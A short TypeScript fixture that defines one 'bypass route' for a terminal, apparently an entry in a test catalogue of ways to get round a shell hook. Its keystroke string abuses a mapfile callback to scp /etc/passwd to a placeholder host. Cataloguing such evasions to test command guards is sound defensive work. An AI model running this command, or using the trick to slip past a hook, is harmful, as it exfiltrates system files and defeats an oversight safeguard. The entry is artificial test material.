import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'mapfile -C',
  source: 'attempts to get round a hook of the shell',
  keys: ["mapfile -C 'scp DATA host: #' -c 1 x < /etc/passwd\r"],
};
